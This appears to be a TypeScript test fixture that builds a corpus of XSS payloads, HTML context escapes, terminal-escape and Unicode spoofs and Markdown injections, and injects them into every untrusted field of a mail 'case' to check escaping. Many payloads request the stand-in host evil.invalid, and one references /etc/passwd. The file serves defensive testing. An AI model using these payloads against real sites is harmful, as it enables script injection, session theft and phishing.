import type { Case } from '../../investigation.ts';

const EVIL = 'http://evil.invalid/x';

/** What would act if it ever stood unescaped: each calls `alert` or asks for an address that no test may see asked. */
const acting = [
  '<script>alert(1)</script>',
  `<script src="${EVIL}"></script>`,
  `<script src=//evil.invalid/x></script>`,
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script/x>alert(1)</script>',
  '<<script>alert(1)//<</script>',
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '<img src=x onerror=alert(1)>',
  `<img src="${EVIL}">`,
  `<img srcset="${EVIL} 1x">`,
  '<img/src/onerror=alert(1)>',
  '<img src=x onerror="&#97;lert(1)">',
  '<img src=`x`onerror=alert(1)>',
  `<picture><source srcset="${EVIL}"><img></picture>`,
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><script href="data:text/javascript,alert(1)"/></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  `<svg><image href="${EVIL}"/></svg>`,
  `<svg><use href="${EVIL}#x"/></svg>`,
  `<svg><style>@import "${EVIL}";</style></svg>`,
  '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
  '<svg><title><img src=x onerror=alert(1)></title></svg>',
  '<svg></p><style><g title="</style><img src=x onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><img src=x onerror=alert(1)></template>',
  '<template shadowrootmode=open><script>alert(1)</script></template>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<noembed><p title="</noembed><svg onload=alert(1)>">',
  '<plaintext><img src=x onerror=alert(1)>',
  '<select><template><img src=x onerror=alert(1)></template></select>',
  '<table><td><iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  `<iframe src="${EVIL}"></iframe>`,
  '<iframe src="javascript:alert(1)"></iframe>',
  '</iframe><script>alert(1)</script>',
  '</iframe><img src=x onerror=alert(1)>',
  `<frameset><frame src="${EVIL}"></frameset>`,
  `<object data="${EVIL}"></object>`,
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  `<embed src="${EVIL}">`,
  `<link rel=stylesheet href="${EVIL}">`,
  `<link rel=prefetch href="${EVIL}">`,
  '<link rel=dns-prefetch href="//evil.invalid">',
  `<base href="${EVIL}/">`,
  `<meta http-equiv=refresh content="0;url=${EVIL}">`,
  '<meta http-equiv="Content-Security-Policy" content="default-src *">',
  `<style>@import url(${EVIL});</style>`,
  `<style>*{background:url(${EVIL})}</style>`,
  '<style><img src="</style><img src=x onerror=alert(1)>"></style>',
  `<div style="background:url(${EVIL})">x</div>`,
  `<div style="background:\\75rl(${EVIL})">x</div>`,
  `<div style="background-image:image-set('${EVIL}' 1x)">x</div>`,
  `<div style="--x:url(${EVIL});background:var(--x)">x</div>`,
  '<div style="position:fixed;inset:0;z-index:9">over everything</div>',
  '<div style="width:expression(alert(1))">x</div>',
  `<p style="font-family:'x';src:url(${EVIL})">x</p>`,
  `<body background="${EVIL}">`,
  '<body onload=alert(1)>',
  '<html onmouseover=alert(1)>',
  `<table background="${EVIL}"><tr><td background="${EVIL}">x</td></tr></table>`,
  `<video src="${EVIL}" autoplay></video>`,
  '<video><source onerror=alert(1)></video>',
  `<video poster="${EVIL}"></video>`,
  `<audio src="${EVIL}" autoplay></audio>`,
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<input autofocus onfocus=alert(1)>',
  `<input type=image src="${EVIL}">`,
  '<button autofocus onfocus=alert(1)>x</button>',
  `<form action="${EVIL}" method=post><input name=p><button>x</button></form>`,
  '<form action="javascript:alert(1)"><input type=submit></form>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  `<a href="${EVIL}" ping="${EVIL}">x</a>`,
  `<area href="${EVIL}"><map name=m><area href="${EVIL}"></map>`,
  '<a href="#verdict" style="animation:x" onanimationstart=alert(1)>x</a>',
  '<p style="animation-name:x" onanimationend=alert(1)>x</p>',
  '<x onclick=alert(1) contenteditable tabindex=1 autofocus onfocus=alert(1)>x</x>',
  `<portal src="${EVIL}"></portal>`,
  '<dialog open onclose=alert(1)>x</dialog>',
  '<div popover id=p onbeforetoggle=alert(1)>x</div>',
  '<? echo "<script>alert(1)</script>" ?>',
  '<!--><script>alert(1)</script>-->',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<!DOCTYPE x [<!ENTITY y "<script>alert(1)</script>">]>&y;',
];

/** Ways out of where the text stands. */
const escapes = [
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '`><script>alert(1)</script>',
  '" onmouseover="alert(1)" x="',
  "' onmouseover='alert(1)' x='",
  '" autofocus onfocus=alert(1) x="',
  '" style="background:url(http://evil.invalid/x)" x="',
  '</title><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '</svg><script>alert(1)</script>',
  '</text></svg><img src=x onerror=alert(1)>',
  '</pre><script>alert(1)</script>',
  '</code></p></section></main><script>alert(1)</script>',
  '</blockquote><iframe src=http://evil.invalid/x></iframe>',
  '"></iframe><script>alert(1)</script><iframe srcdoc="',
  '&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;quot;&amp;gt;&amp;lt;script&amp;gt;alert(1)',
  '&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;',
  '&lt;img src=x onerror=alert(1)&gt;',
  '\\"><script>alert(1)</script>',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  ']]><script>alert(1)</script>',
  '--><script>alert(1)</script>',
  '*/</style><script>alert(1)</script>',
  '}body{background:url(http://evil.invalid/x)}',
  'red;background:url(http://evil.invalid/x)',
  'javascript:alert(1)',
  'javascript:alert(1)//https://good.example/',
  'data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'blob:http://evil.invalid/x',
  'file:///etc/passwd',
  '//evil.invalid/x',
  'http://evil.invalid/x',
  'https://user:pass@evil.invalid:8443/x?y=<z>#"',
  'www.evil.invalid',
  'someone@evil.invalid',
  'mailto:someone@evil.invalid?subject=<script>alert(1)</script>',
];

/** For terminals, for readers' eyes, and for Markdown. */
const spoofs = [
  '\u001b[31mred\u001b[0m',
  '\u001b]8;;http://evil.invalid/x\u0007click\u001b]8;;\u0007',
  '\u001b]0;title\u0007',
  '\u001b[2J\u001b[H',
  '\u001bP1$r\u001b\\',
  '\u009b31m',
  '\u0007\b\b\b\u007f',
  'line\r\u001b[Kline',
  'a\u0000b',
  '\u202eevil\u202c',
  '\u2067right\u2069 to left',
  'user\u200b@\u200cevil.invalid',
  '\u{e0041}\u{e0042}tags',
  '\ud800lone',
  '\udc00<script>alert(1)</script>',
  '\u2028<script>alert(1)</script>\u2029',
  '[click](http://evil.invalid/x)',
  '![picture](http://evil.invalid/x)',
  '[click](javascript:alert(1))',
  '[x]: http://evil.invalid/x "t"\n\n[x]',
  '<http://evil.invalid/x>',
  '`</code><script>alert(1)</script>`',
  '``` \n</pre><script>alert(1)</script>\n```',
  '````\n```\n<img src=x onerror=alert(1)>',
  '| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> |',
  '\\<script>alert(1)\\</script>',
  '\\\\<script>alert(1)</script>',
  '# heading\n> quote\n- list\n1. one',
  '***bold*** __x__ ~~y~~ $$z$$',
  '@everyone #1 GH-1 !important',
  ':smile: [[wiki]] {{template}}',
  '<!-- comment --> <details><summary>x</summary></details>',
  '~~~html\n<script>alert(1)</script>\n~~~',
  '    <script>alert(1)</script>',
  '<kbd><a href="http://evil.invalid/x">x</a></kbd>',
  '[^1]: <img src=http://evil.invalid/x>',
  '<div align="center"><img src="http://evil.invalid/x"></div>',
];

/** Wrapped, so that each also stands behind ordinary words and inside another element. */
const nested = acting
  .filter((_, index) => index % 4 === 0)
  .map((payload, index) => (index % 2 === 0 ? `お知らせ ${payload} です` : `<b title='${payload}'>${payload}</b>`));

export const payloads: string[] = [...acting, ...escapes, ...spoofs, ...nested];

/** Words of closed lists and what ties parts of a case together; everything else in a case can be a stranger's. */
const FIXED = new Set(
  (
    'format language state reason kind outcome topic id finding strength label form where dialect method part path type ' +
    'action registry fact by party protocol via level as list checkedAt fetchedAt listedAt field variant role aim explainedBy likelihood decisive startedAt policy why'
  ).split(' '),
);
const ADDRESS = /^[\d.]{7,15}$/;

/** The case with the payload in every field that a stranger could have written, keys included, and as its HTML. */
export function poisoned(dossier: Case, payload: string): Case {
  const bad = infected(dossier, payload, '') as Case;
  const { body } = bad.mail;
  const attribute = payload.replaceAll('"', '&quot;');
  const html = [
    payload,
    `<p title="${attribute}" style="${attribute}">${payload}</p>`,
    `<a href="${attribute}" onclick="alert(1)">${payload}</a><img src="${attribute}" alt="${attribute}" onerror="alert(1)">`,
    `<font face="${attribute}" color="${attribute}">x</font><table width="${attribute}"><tr><td bgcolor="${attribute}">${payload}</td></tr></table>`,
    `<style>${payload}</style><input value="${attribute}" placeholder="${attribute}">`,
  ];
  const htmls = html.map((one) => ({ part: '1', html: one, source: { mail: '1', start: 0, end: 1 } }));
  return { ...bad, mail: { ...bad.mail, body: { ...body, htmls } } };
}

function infected(value: unknown, payload: string, key: string): unknown {
  if (typeof value === 'string') return FIXED.has(key) || ADDRESS.test(value) ? value : payload;
  if (typeof value !== 'object' || value === null) return value;
  if (Array.isArray(value)) return value.map((item) => infected(item, payload, key));
  const entries = Object.entries(value).map(([name, item]) => {
    const host = name.includes('.') && !ADDRESS.test(name);
    return [host ? payload : name, infected(item, payload, name)];
  });
  return Object.fromEntries(entries);
}
